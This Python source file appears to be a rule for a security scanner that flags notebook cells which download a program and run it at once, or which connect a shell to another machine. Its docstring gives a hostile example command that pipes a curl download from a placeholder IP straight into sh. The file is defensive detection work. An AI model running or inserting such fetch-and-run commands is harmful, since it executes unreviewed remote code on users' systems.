"""A cell of a notebook fetches a program and runs it at once, or executes code that it hides.

## Why it matters
Notebooks are run cell by cell, and few people read all of them first. Installing packages and downloading data is
ordinary; handing what was just downloaded or decoded to a shell or to `exec` is not.

## Example
`!curl -s http://192.0.2.1/x | sh`.

## Remedy
Do not run the cell. Fetch the program, read it, then run it.

## References
CWE-494, Download of Code Without Integrity Check.
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.core import threat
from assay.core.finding import Confidence, Severity
from assay.formats.repository.notebook import Notebook
from assay.formats.repository.python_effects import Does
from assay.scan.rule import Hit, Rule
from assay.scan.surroundings.code import ALWAYS
from assay.scan.surroundings.shell import fetches_and_runs, opens_shell


def check(view: Notebook) -> Iterator[Hit]:
    """Cells that do what malware does."""
    for shell in view.shell:
        if fetches_and_runs(shell.command):
            yield Hit("it fetches a program and runs it at once in a shell", member=f"cell {shell.cell}")
        elif opens_shell(shell.command):
            yield Hit("it connects a shell to another machine", member=f"cell {shell.cell}", severity=Severity.HIGH)
    for cell, effect in view.effects:
        if effect.does in ALWAYS:
            yield Hit(f"it {effect.does.value}: {effect.target}", member=f"cell {cell}", line=effect.line)
        elif effect.does is Does.COMMAND and fetches_and_runs(effect.detail):
            yield Hit("it fetches a program and runs it at once", member=f"cell {cell}", line=effect.line)


RULE = Rule(
    id="notebook-runs-hidden-code",
    reads=Notebook.kind,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    threats=threat.EMBEDDED_MALWARE,
    check=check,
    doc=__doc__,
)
